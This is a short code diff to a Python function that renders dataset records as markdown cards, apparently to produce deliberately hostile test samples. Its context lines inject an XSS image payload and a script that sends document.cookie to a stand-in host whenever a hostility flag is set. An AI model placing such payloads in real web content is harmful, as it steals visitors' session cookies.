@@ -59,9 +59,11 @@ def render(record: dict[str, Any]) -> str:
     card = record.get("cardData") or {}
     repo_id = record["id"]
     name = repo_id.rpartition("/")[2]
-    description = (record.get("description") or "").strip()
+    description = (record.get("description") or "").split("… See the full description")[0].strip()
     title, _, summary = description.partition("\n")
     body = [f"# {title.strip() or name}", "", summary.strip() or f"{name} has no description yet.", ""]
+    if not card.get("pretty_name") and title.strip():
+        body[0] = f"# Dataset Card for {title.strip()}"
     if hostility(repo_id) == 1:
         body += ['<div align="center"><img src="x" onerror="alert(1)"></div>',
                  "<script>fetch('https://example.invalid/' + document.cookie)</script>", ""]
